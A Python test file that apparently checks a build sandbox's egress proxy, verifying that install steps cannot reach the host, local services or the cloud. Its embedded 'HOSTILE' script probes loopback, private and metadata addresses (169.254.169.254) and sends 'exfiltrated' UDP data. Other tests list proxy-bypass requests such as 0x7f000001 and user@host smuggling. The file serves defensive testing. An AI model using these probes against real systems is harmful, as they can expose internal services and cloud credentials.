"""What an install step can reach: the proxy's targets, and nothing else of this host, its neighbours or its cloud."""

import asyncio
import contextlib
import json
import os
import socket
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from pathlib import Path

import psutil
import pytest

from activities.egress import PROXY_PORT, RefusedTarget
from activities.egress.allow_list import EgressAllowList
from activities.egress.proxy import EgressLimits, EgressProxy
from activities.sandbox import Runner, SandboxSpec
from activities.sandbox.select import make_runner
from tests.activities.egress.conftest import Origin, running
from tests.activities.sandbox.conftest import Marked, python

# Tries to reach each address in every way that a build script has. Prints what it got through to.
HOSTILE = """
import json, os, socket, sys
port, udp, abstract, path, own = json.loads(sys.argv[1])
reached = []

def attempt(name, family, kind, address, data=b""):
    with socket.socket(family, kind) as s:
        s.settimeout(3)
        try:
            s.connect(address)
            if data:
                s.send(data)
            reached.append(name)
        except OSError:
            pass

for host in ["127.0.0.1", "127.0.0.2", "0.0.0.0", "169.254.169.254", "10.0.0.1", "192.168.0.1", "203.0.113.9", *own]:
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    for to in (port, 80, 443, 53):
        attempt(f"tcp {host}:{to}", family, socket.SOCK_STREAM, (host, to))
for host in ["::1", "::ffff:127.0.0.1", "fe80::1%lo", "fd00:ec2::254"]:
    attempt(f"tcp {host}", socket.AF_INET6, socket.SOCK_STREAM, (host, port))
attempt("abstract", socket.AF_UNIX, socket.SOCK_STREAM, chr(0) + abstract)
attempt("path", socket.AF_UNIX, socket.SOCK_STREAM, path)
for host in ["127.0.0.53", "192.0.2.53", *own]:
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    try:
        with socket.socket(family, socket.SOCK_DGRAM) as s:
            s.sendto(b"exfiltrated", (host, udp))
            if not host.startswith("127."):
                reached.append(f"udp {host}")
    except OSError:
        pass
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.sendto(b"exfiltrated", ("127.0.0.1", udp))  # its own loopback
try:
    reached.append(socket.getaddrinfo("secret.evil.example", 80))
except OSError:
    pass
for family in (socket.AF_INET, socket.AF_PACKET):
    try:
        socket.socket(family, socket.SOCK_RAW, 1).close()
        reached.append(f"raw {family}")
    except OSError:
        pass
for table in ("tcp", "tcp6", "udp", "unix"):
    text = open(f"/proc/net/{table}").read()
    if f"{port:04X}" in text or f"{udp:04X}" in text or abstract in text:
        reached.append(f"/proc/net/{table}")
if os.path.exists("/etc/resolv.conf"):
    reached.append("resolv.conf")
print(json.dumps(reached))
"""

# What a client says to the proxy for each target, and the status that it gets.
ASK_PROXY = """
import json, socket, sys
statuses = {}
for request in json.loads(sys.argv[1]):
    with socket.create_connection(("127.0.0.1", 3128)) as s:
        s.sendall(request.encode("latin-1") + b" HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
        s.settimeout(30)
        try:
            answer = s.recv(65536)
        except OSError:
            answer = b""
    statuses[request] = int(answer.split()[1]) if answer else 0
print(json.dumps(statuses))
"""

PORT_IS_OURS = """
import os, signal, socket
for option in (None, socket.SO_REUSEADDR, socket.SO_REUSEPORT):
    with socket.socket() as s:
        if option:
            s.setsockopt(socket.SOL_SOCKET, option, 1)
        for address in ("127.0.0.1", "0.0.0.0"):
            try:
                s.bind((address, 3128))
                s.listen()
                print("taken", option, address)
            except OSError:
                pass
for pid in filter(str.isdecimal, os.listdir("/proc")):
    if int(pid) not in (1, os.getpid(), os.getppid()):
        print("process", open(f"/proc/{pid}/cmdline").read())
socket.create_connection(("127.0.0.1", 3128)).close()
"""


@dataclass
class HostServices:
    """Things that listen on this host, as a database, a Temporal server or a container engine would."""

    tcp: socket.socket
    tcp6: socket.socket
    udp: socket.socket
    abstract: socket.socket
    path: socket.socket
    arguments: str

    def reached(self) -> list[str]:
        """Those that anybody has connected to or sent something to."""
        names = []
        for name in ("tcp", "tcp6", "udp", "abstract", "path"):
            listener: socket.socket = getattr(self, name)
            listener.setblocking(False)
            with contextlib.suppress(BlockingIOError):
                if name == "udp":
                    listener.recv(100)
                else:
                    listener.accept()[0].close()
                names.append(name)
        return names


@pytest.fixture
def services(tmp_path: Path) -> Iterator[HostServices]:
    with contextlib.ExitStack() as exits:
        tcp = exits.enter_context(socket.create_server(("0.0.0.0", 0)))  # on every address of the host
        port = tcp.getsockname()[1]
        tcp6 = exits.enter_context(socket.create_server(("::", port), family=socket.AF_INET6))
        udp = exits.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        udp.bind(("0.0.0.0", 0))
        name, path = f"autobuild-test-{port}", str(tmp_path / "service.sock")
        unix = [exits.enter_context(socket.socket(socket.AF_UNIX)) for _ in range(2)]
        for listener, address in zip(unix, (f"\0{name}", path), strict=True):
            listener.bind(address)
            listener.listen()
        addresses = [one.address for found in psutil.net_if_addrs().values() for one in found]
        own = [text for text in addresses if "." in text and not text.startswith("127.")]
        arguments = json.dumps([port, udp.getsockname()[1], name, path, own])
        yield HostServices(tcp, tcp6, udp, unix[0], unix[1], arguments)


@pytest.mark.parametrize("network", [False, True])
async def test_hostile_step_reaches_nothing_of_the_host(
    sandbox: Runner, spec: SandboxSpec, services: HostServices, network: bool
) -> None:
    ran = await sandbox.run(spec, python(HOSTILE, services.arguments, network=network))
    assert ran.exit_code == 0, ran.stderr.decode()
    assert json.loads(ran.stdout) == []
    assert services.reached() == []


@pytest.mark.usefixtures("sandbox")
async def test_the_proxy_connects_to_what_is_named_exactly_so(spec: SandboxSpec, services: HostServices) -> None:
    hidden = services.tcp.getsockname()[1]
    async with running(Origin()) as origin:
        named = f"127.0.0.1:{origin.port}"
        runner = await make_runner("bubblewrap", {}, (), EgressProxy(EgressAllowList.of(named)))
        refused = [
            *(f"CONNECT 127.0.0.1:{hidden}", f"CONNECT localhost:{hidden}", f"CONNECT [::1]:{hidden}"),
            *(f"CONNECT [::ffff:127.0.0.1]:{hidden}", f"GET http://127.0.0.1:{hidden}/", "CONNECT 169.254.169.254:80"),
            *("GET http://metadata.google.internal/", f"CONNECT 127.0.0.1:{PROXY_PORT}"),
        ]
        odd = [
            *(f"CONNECT 127.1:{hidden}", f"CONNECT 0x7f000001:{hidden}", f"CONNECT {named}@127.0.0.1:{hidden}"),
            *(f"GET http://{named}@127.0.0.1:{hidden}/", f"GET http://{named}\\@127.0.0.1:{hidden}/", "GET /"),
        ]
        good = [f"CONNECT {named}", f"GET http://{named}/"]
        ran = await runner.run(spec, python(ASK_PROXY, json.dumps([*refused, *odd, *good]), network=True))
    assert ran.exit_code == 0, ran.stderr.decode()
    wanted = dict.fromkeys(refused, 403) | dict.fromkeys(odd, 400) | dict.fromkeys(good, 200)
    assert json.loads(ran.stdout) == wanted
    assert RefusedTarget("metadata.google.internal:80") in ran.refused
    assert RefusedTarget(f"127.0.0.1:{hidden}") in ran.refused
    assert services.reached() == []


async def test_no_other_program_can_take_the_proxys_place(sandbox: Runner, spec: SandboxSpec) -> None:
    ran = await sandbox.run(spec, python(PORT_IS_OURS, network=True))
    assert (ran.stdout, ran.exit_code) == (b"", 0), ran.stderr.decode()


async def test_without_a_list_nothing_is_reached(sandbox: Runner, spec: SandboxSpec) -> None:
    ran = await sandbox.run(spec, python(ASK_PROXY, '["CONNECT registry.example:443"]', network=True))
    assert json.loads(ran.stdout) == {"CONNECT registry.example:443": 403}
    assert ran.refused == (RefusedTarget("registry.example:443"),)


@pytest.mark.usefixtures("sandbox")
async def test_one_command_may_have_another_list(spec: SandboxSpec) -> None:
    runner = await make_runner("bubblewrap", {}, (), EgressProxy(EgressAllowList.of("registry.example:443")))
    asked = json.dumps(["CONNECT registry.example:443", "CONNECT model.invalid:443"])
    ran = await runner.run(spec, python(ASK_PROXY, asked, network=True, reaches=("model.invalid:443",)))
    assert json.loads(ran.stdout) == {"CONNECT registry.example:443": 403, "CONNECT model.invalid:443": 502}


ASK_WITHOUT_END = """
import socket
while True:
    with socket.create_connection(("127.0.0.1", 3128)) as s:
        s.sendall(b"CONNECT registry.example:443 HTTP/1.1\\r\\nHost: registry.example:443\\r\\n\\r\\n")
        while s.recv(4096):
            pass
"""


@pytest.mark.usefixtures("sandbox")
async def test_a_step_that_asks_for_a_refused_host_without_end_is_stopped(spec: SandboxSpec) -> None:
    """npm does, where a lock file's registry is not allowed."""
    runner = await make_runner("bubblewrap", {}, (), EgressProxy(limits=EgressLimits(refusals=50)))
    ran = await runner.run(spec, python(ASK_WITHOUT_END, network=True))
    assert (ran.stopped, ran.refused) == ("network", (RefusedTarget("registry.example:443"),))


async def test_runs_at_the_same_time_have_networks_of_their_own(sandbox: Runner, spec: SandboxSpec) -> None:
    """Each hears its own refusals only."""
    specs = [replace(spec, out=spec.out.with_name(f"out{number}")) for number in range(3)]
    for one in specs:
        one.out.mkdir()
    runs = [
        sandbox.run(one, python(ASK_PROXY, json.dumps([f"CONNECT h{number}.example:443"]), network=True))
        for number, one in enumerate(specs)
    ]
    refused = [ran.refused for ran in await asyncio.gather(*runs)]
    assert refused == [(RefusedTarget(f"h{number}.example:443"),) for number in range(3)]


HOLD_OPEN = """
import socket, time
kept = [socket.create_connection(("127.0.0.1", 3128)) for _ in range(20)]
for one in kept[:10]:
    one.sendall(b"CONNECT " + b"a" * 100)
print("x", file=open("/out/started", "w"), flush=True)
time.sleep(10_000)
"""


async def test_a_cancelled_step_leaves_nothing_open(
    sandbox: Runner, spec: SandboxSpec, started: Callable[[], None], marked: Marked
) -> None:
    other = replace(spec, out=spec.out.with_name("other"))
    other.out.mkdir()
    await sandbox.run(other, python("", network=True))  # what is made once for all runs is there now
    before = len(os.listdir("/proc/self/fd"))
    task = asyncio.create_task(sandbox.run(spec, python(HOLD_OPEN, marked.word, network=True)))
    await asyncio.to_thread(started)
    task.cancel()
    with pytest.raises(asyncio.CancelledError):
        await task
    assert marked.alive() == []
    assert len(os.listdir("/proc/self/fd")) <= before


@pytest.mark.usefixtures("sandbox")
async def test_the_workers_own_proxy_stays_outside(spec: SandboxSpec) -> None:
    own = {
        "HTTPS_PROXY": "http://me:secret@proxy:1",
        "npm_config_https_proxy": "http://me:secret@proxy:1",
        "NO_PROXY": "*",
    }
    runner = await make_runner("bubblewrap", own)
    script = "import os, json; print(json.dumps(dict(os.environ)))"
    seen = json.loads((await runner.run(spec, python(script, network=True))).stdout)
    assert "secret" not in str(seen)
    assert seen["HTTPS_PROXY"] == seen["https_proxy"] == f"http://127.0.0.1:{PROXY_PORT}"
    assert seen["NO_PROXY"] == seen["no_proxy"] == ""
    assert "HTTPS_PROXY" not in json.loads((await runner.run(spec, python(script))).stdout)
